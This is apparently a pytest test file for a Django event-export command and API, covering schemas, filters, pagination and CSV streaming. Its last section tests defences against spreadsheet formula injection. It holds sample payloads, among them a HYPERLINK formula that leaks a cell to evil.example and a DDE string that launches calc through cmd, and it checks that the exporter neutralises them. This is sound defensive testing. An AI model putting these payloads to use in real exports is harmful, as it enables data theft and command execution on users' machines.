from __future__ import annotations

import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from dashboard.exports import CSV_COLUMNS
from dashboard.models import Article, Event

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("seeds")]

EVENT_KEYS = {
    "id", "negotiation", "type", "status", "date", "date_precision", "end_date", "location",
    "summary", "confidence", "review", "related_event", "actors", "sources", "plover", "cameo",
}  # fmt: skip
SOURCE_KEYS = {"article", "url", "title", "outlet", "published", "sentence"}


def export(*args) -> str:
    out = StringIO()
    call_command("export_events", *args, stdout=out)
    return out.getvalue()


def test_json_export_has_the_schema():
    data = json.loads(export("--format", "json"))
    assert set(data) == {"events"}
    assert len(data["events"]) == Event.objects.visible().count()
    for event in data["events"]:
        assert set(event) == EVENT_KEYS
        assert event["date_precision"] in {"day", "month", "year"}
        assert len(event["date"]) == {"day": 10, "month": 7, "year": 4}[event["date_precision"]]
        assert all(set(a) == {"name", "role"} for a in event["actors"])
        assert event["sources"] and all(set(s) == SOURCE_KEYS for s in event["sources"])


def test_one_event_lists_each_article_that_reports_it():
    data = json.loads(
        export("type=cancellation", "date_after=2018-08-24", "date_before=2018-08-24")
    )
    [event] = data["events"]
    articles = {source["article"] for source in event["sources"]}
    assert articles == set(
        Article.objects.filter(mentions__event=event["id"]).values_list("pk", flat=True)
    )
    assert len(articles) == 3
    # A cancelled trip is CAMEO 161; cancelled talks would be 164.
    assert event["plover"] == "SANCTION" and event["cameo"] == "161"
    assert event["related_event"] == Event.objects.get(pk=event["id"]).related_event_id


def test_csv_export_matches_the_filter(tmp_path):
    target = tmp_path / "out.csv"
    call_command("export_events", "--format", "csv", "--output", str(target), "type=sanction")
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert list(rows[0]) == CSV_COLUMNS
    assert {row["type"] for row in rows} == {"sanction"}
    assert len(rows) == Event.objects.visible().filter(event_type="sanction").count()


def test_a_bad_filter_is_an_error():
    with pytest.raises(CommandError):
        export("type=no-such-type")


def test_the_api_and_the_export_agree(client):
    api = client.get("/api/events", {"type": "meeting", "_size": 1000}).json()
    exported = json.loads(export("type=meeting"))
    assert api["count"] == len(exported["events"])
    assert sorted(e["id"] for e in api["events"]) == sorted(e["id"] for e in exported["events"])
    assert {e["type"] for e in api["events"]} == {"meeting"}


def test_the_api_paginates(client):
    first = client.get("/api/events", {"_size": 5}).json()
    assert len(first["events"]) == 5 and first["previous"] is None
    second = client.get(first["next"]).json()
    assert {e["id"] for e in first["events"]}.isdisjoint(e["id"] for e in second["events"])


def test_the_api_rejects_bad_filters_with_400(client):
    response = client.get("/api/events", {"date_after": "not-a-date"})
    assert response.status_code == 400
    assert "date" in response.json()["errors"]


def test_csv_download_streams_exactly_the_filtered_rows(client):
    response = client.get("/events.csv", {"status": "cancelled"})
    assert response.status_code == 200 and response.streaming
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == Event.objects.visible().filter(status="cancelled").count() > 0
    assert {row["status"] for row in rows} == {"cancelled"}


# ---------------------------------------------------------------------- formula injection
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd"]  # fmt: skip


@pytest.fixture
def formulas() -> list[Event]:
    """Events whose text cells would start formulas in a spreadsheet."""
    article = Article.objects.create(
        source_key="test/formula.txt", source_file="test/formula.txt", title="=cmd|' /C calc'!A0",
        outlet="@outlet", text="text", content_hash="formula", url="https://example.org/f",
    )  # fmt: skip
    events = []
    for n, summary in enumerate(FORMULAS):
        event = Event.objects.create(
            event_type="statement", date=f"2030-01-{n + 1:02}", summary=summary,
            location="-Pyongyang", confidence=0.25,
        )  # fmt: skip
        event.mentions.create(article=article, sentence="s", start=0, end=1)
        events.append(event)
    return events


def _rows(csv_text: str) -> dict[str, dict]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(csv_text))}


def test_csv_cells_that_would_start_a_formula_are_written_as_text(client, formulas, tmp_path):
    downloaded = _rows(
        b"".join(client.get("/events.csv", {"date_after": "2030-01-01"}).streaming_content).decode()
    )
    target = tmp_path / "out.csv"
    call_command("export_events", "--format", "csv", "-o", str(target), "date_after=2030-01-01")
    with target.open(encoding="utf-8", newline="") as stream:  # keep the \r inside a cell
        exported = _rows(stream.read())
    for rows in (downloaded, exported):
        assert len(rows) == len(FORMULAS)
        for n, (event, summary) in enumerate(zip(formulas, FORMULAS, strict=True)):
            row = rows[str(event.pk)]
            assert row["summary"] == "'" + summary
            assert row["location"] == "'-Pyongyang"
            assert row["sources"] == ("'@outlet: =cmd|' /C calc'!A0 <https://example.org/f>")
            # Numbers and dates as they were.
            assert row["id"] == str(event.pk) and row["confidence"] == "0.25"
            assert row["date"] == f"2030-01-{n + 1:02}"
            assert row["related_event"] == ""


def test_the_json_export_keeps_text_as_it_is(formulas):
    data = json.loads(export("date_after=2030-01-01"))
    assert sorted(e["summary"] for e in data["events"]) == sorted(FORMULAS)
